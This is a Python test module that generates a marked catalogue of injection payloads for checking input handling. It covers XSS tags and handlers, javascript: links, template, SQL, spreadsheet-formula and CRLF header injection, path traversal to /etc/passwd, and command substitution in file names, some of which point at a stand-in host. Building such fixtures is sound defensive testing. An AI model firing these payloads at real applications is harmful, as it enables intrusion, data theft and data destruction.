"""Texts that people could type to be more than texts. Each carries a marker, so that a test can find it again.

`PAYLOADS` is made of families, each a list of shapes; `bundled` packs several into one text.
"""

import random
from collections.abc import Iterator
from dataclasses import dataclass

MARK = "window.pwned=(window.pwned||0)+1"
CALLS = (MARK, f"(()=>{{{MARK}}})()", f"eval('{MARK}')", "alert(1)", "top.location='https://elsewhere.example/'")

SCRIPTS = (
    "<script>{call}</script>",
    "</script><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "</style><script>{call}</script>",
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    "--><script>{call}</script>",
    "]]><script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script\n>{call}</script\t>",
    "<script/x>{call}</script>",
    "<<script>{call}//<</script>",
    "<script src=https://elsewhere.example/x.js></script>",
    "<script type=module>{call}</script>",
    '<noscript><p title="</noscript><script>{call}</script>">',
)
HANDLERS = (
    "<img src=x onerror={call}>",
    '<img src=x onerror="{call}">',
    "<svg onload={call}>",
    "<body onload={call}>",
    "<input autofocus onfocus={call}>",
    "<details open ontoggle={call}>x</details>",
    "<video><source onerror={call}></video>",
    "<marquee onstart={call}>x</marquee>",
    "<select autofocus onfocus={call}>",
    "<a onmouseover={call}>x</a>",
    "<div onpointerenter={call}>x</div>",
    "<iframe onload={call}></iframe>",
    "<audio src=x onerror={call}>",
    "<style onload={call}></style>",
    "<link rel=stylesheet href=x onerror={call}>",
    "<object data=x onerror={call}></object>",
)
ATTRIBUTES = (
    '" onmouseover={call} x="',
    "' onmouseover={call} x='",
    '" autofocus onfocus={call} x="',
    "` onmouseover={call} x=`",
    '" style="position:fixed;inset:0;background:red" x="',
    "x onfocus={call} autofocus",
    '"/><img src=x onerror={call}>',
    '" href="javascript:{call}" x="',
    '" hx-get="/account/" hx-trigger="load" x="',
    '" data-key="n" data-copy="x" x="',
)
LINKS = (
    "[x](javascript:{call})",
    "[x](JaVaScRiPt:{call})",
    "[x](java\tscript:{call})",
    "[x](data:text/html,<script>{call}</script>)",
    "[x](vbscript:x)",
    "![x](https://elsewhere.example/x.png)",
    "![x](javascript:{call})",
    "<javascript:{call}>",
    "[x](//elsewhere.example)",
    "[x]: javascript:{call}\n[x]",
    '[x](https://a.example"onmouseover={call})',
    "<a href=javascript:{call}>x</a>",
    "[<img src=x onerror={call}>](x)",
    "`<img src=x onerror={call}>`",
    '```"><script>{call}</script>\n```',
    "| <svg onload={call}> | b |\n|-|-|\n| a | b |",
    "# <svg onload={call}>",
    "- <img src=x onerror={call}>",
    "> <img src=x onerror={call}>",
    '![](x "\\" onerror={call} x=\\"")',
)
MARKUP = (
    "<svg><script>{call}</script></svg>",
    "<svg><a xlink:href=javascript:{call}><text>x</text></a></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<math><mtext></p><img src=x onerror={call}></math>",
    "<template><script>{call}</script></template>",
    '<iframe srcdoc="<script>{call}</script>"></iframe>',
    "<base href=https://elsewhere.example/>",
    '<meta http-equiv=refresh content="0;url=https://elsewhere.example/">',
    "<form action=https://elsewhere.example/><button>x",
    "<embed src=javascript:{call}>",
    "<xmp><script>{call}</script></xmp>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    "<?php x",
    "<dialog open>x</dialog>",
)
BRACES = (
    "{{ 7|add:7 }}",
    "{% now %}",
    "{% debug %}",
    "{{ request.user.password }}",
    "{# x #}",
    "{% csrf_token %}",
    "{% include 'x' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('" + MARK + "')()}}",
    "<c-page>x</c-page>",
    '<c-vars x="1" />',
    "{% verbatim %}",
    "%(n)s %s %d {0} {n}",
    "\\u003cscript\\u003e",
    "__proto__",
    "constructor",
)
BIDI = (
    "a\u202eb txt.exe",
    "\u202d1234\u202c",
    "\u202atext",
    "\u202btext",
    "\u2066left",
    "\u2067right",
    "\u2068first",
    "\u2069\u2069\u2069end",
    "\u202c\u202c\u202cend",
    "\u200fx\u200e",
    "\u061cx",
    "\u202e\u202e\u202e\u202edeep",
    "\u2067\u2066\u2067mixed",
    "\u202e12.50 USD",
    "ab\u202ecd\u202cef\u202egh",
    "\u2067\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "English \u0627\u0644\u0639\u0631\u0628\u064a\u0629 123 \u05e2\u05d1\u05e8\u05d9\u05ea (x)",
    "\u0627\u0644\u0633\u0639\u0631 12.50 $ - 3/4",
    "(\u0623)",
    "\u0645\u062b\u0627\u0644 https://a.example/\u0639\u0631\u0628\u064a?x=1",
)
UNICODE = (
    "\u200b\u200b\u200b",
    "zero\u200bwidth",
    "\ufeffbom",
    "\u2028line",
    "\u2029paragraph",
    "\u00a0\u00a0",
    "\u3000",
    "\u180e",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\U0001f1e6\U0001f1ea\U0001f1e6",
    "\u2764\ufe0f\ufe0e",
    "\ufffd\ufffe\uffff",
    "\U0010ffff",
    "\ue000",
    "\ufdfd",
    "\ua9c5\ua9c5\ua9c5",
    "\u1f590\U0001f3ff",
    "\u0130\u0131\u00df\ufb03",
    "\uff1cscript\uff1e" + MARK,
    "\u02bcscript\u02bc",
    "\u2039svg\u203a",
    "\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47",
    "\u0489" * 20,
)
CONTROL = tuple(f"a{chr(code)}b" for code in (*range(1, 32), 127, 133, 159))
LONG = (
    "W" * 300,
    "i" * 600,
    "\u0639" * 300,
    "\u4e2d" * 200,
    "a-" * 200,
    "a/" * 200,
    "a." * 200,
    "https://a.example/" + "x" * 300,
    "\u00ad".join("soft" for _ in range(60)),
    "&nbsp;" * 80,
    "\t" * 100 + "x",
    "\n" * 60 + "x",
    " " * 300 + "x",
    "0" * 400,
    "\U0001f600" * 120,
    "_" * 300,
    "\u2588" * 150,
    "\u0bcd" * 100,
)
NULLISH = (
    "null",
    "None",
    "undefined",
    "NaN",
    "Infinity",
    "true",
    "false",
    "[object Object]",
    "\\0",
    "%00",
    "\\x00",
    "\\u0000",
    "0",
    "-1",
    "1e309",
    "0x1F",
    "-0",
    "[]",
    "{}",
    "nil",
    "NULL",
    "''",
    '""',
    "--",
    "#",
    ".",
    "..",
)
SQL = (
    "'; DROP TABLE person; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(5)",
    '" OR ""="',
    "x') UNION SELECT email FROM person --",
    "%' ESCAPE '!' --",
    "\\'; --",
    "$$; DROP TABLE event; $$",
    "/* x */",
    "E'\\x27'",
    "100%",
    "_",
    "\\",
    "%%%%",
    "a%b_c\\d",
)
SHEETS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://elsewhere.example")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    '"=1+1"',
    ";=1+1",
    ",=1+1",
    '=IMPORTXML("https://elsewhere.example")',
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "C:\\x",
    "file:///etc/passwd",
    "x\u0001.jsonl",
    "CON",
    "a.jsonl/../b",
    ".htaccess",
    "~/x",
    "x.jsonl%2f..",
    "tasks.html.jsonl",
    "a b;c|d&e.csv",
    "$(id).csv",
    "`id`.csv",
    "-rf",
    "a\u202elnosj.exe",
    "\uff0e\uff0e/x",
    "x" * 200 + ".jsonl",
)
HEADERS = (
    "x\r\nSet-Cookie: a=b",
    "x\nLocation: https://elsewhere.example",
    "x\r\n\r\n<script>{call}</script>",
    "x%0d%0aSet-Cookie:a=b",
    "x\u560d\u560aSet-Cookie:a=b",
    "To: a@b.example\nBcc: c@d.example",
    "=?utf-8?q?x?=",
    'x"; filename="y',
    "x; Max-Age=1",
    "\x0b\x0cx",
)
FAMILIES = {
    "script": SCRIPTS,
    "handler": HANDLERS,
    "attribute": ATTRIBUTES,
    "link": LINKS,
    "markup": MARKUP,
    "brace": BRACES,
    "bidi": BIDI,
    "unicode": UNICODE,
    "control": CONTROL,
    "long": LONG,
    "nullish": NULLISH,
    "sql": SQL,
    "sheet": SHEETS,
    "path": PATHS,
    "header": HEADERS,
}


@dataclass(frozen=True, slots=True)
class Payload:
    """One text: its marker stands in front of it, letters and figures alone, as no other text of a page has them."""

    family: str
    mark: str
    text: str

    def __str__(self) -> str:
        return f"{self.mark} {self.text}"


def _all() -> Iterator[Payload]:
    number = 0
    for family, shapes in FAMILIES.items():
        # What calls something does so in two ways.
        for way in range(2 if family in ("script", "handler", "attribute") else 1):
            for at, shape in enumerate(shapes):
                number += 1
                yield Payload(family, f"q{number:03d}z", shape.replace("{call}", CALLS[(at + way) % len(CALLS)]))


PAYLOADS = tuple(_all())


class Texts:
    """Deals payloads out, `size` to a text, all of them once before any comes again; a seed decides the order."""

    def __init__(self, seed: int, size: int) -> None:
        self.random, self.size = random.Random(seed), size
        self.dealt: set[str] = set()
        self._left: list[Payload] = []

    def say(self, what: str) -> str:
        """A text for `what`. What has little room gets one payload, the rest several."""
        short = any(word in what for word in ("name", "key", "label", "option", "clause"))
        taken = [self._next(short) for _ in range(1 if short else self.size)]
        self.dealt |= {payload.mark for payload in taken}
        return "\n".join(map(str, taken)) if not short else str(taken[0])

    def _next(self, short: bool) -> Payload:
        if not self._left:
            self._left = list(PAYLOADS)
            self.random.shuffle(self._left)
        return self._left.pop()

    def both(self, what: str) -> dict[str, str]:
        """A table of languages."""
        return {"en": self.say(what), "ar": self.say(what)}
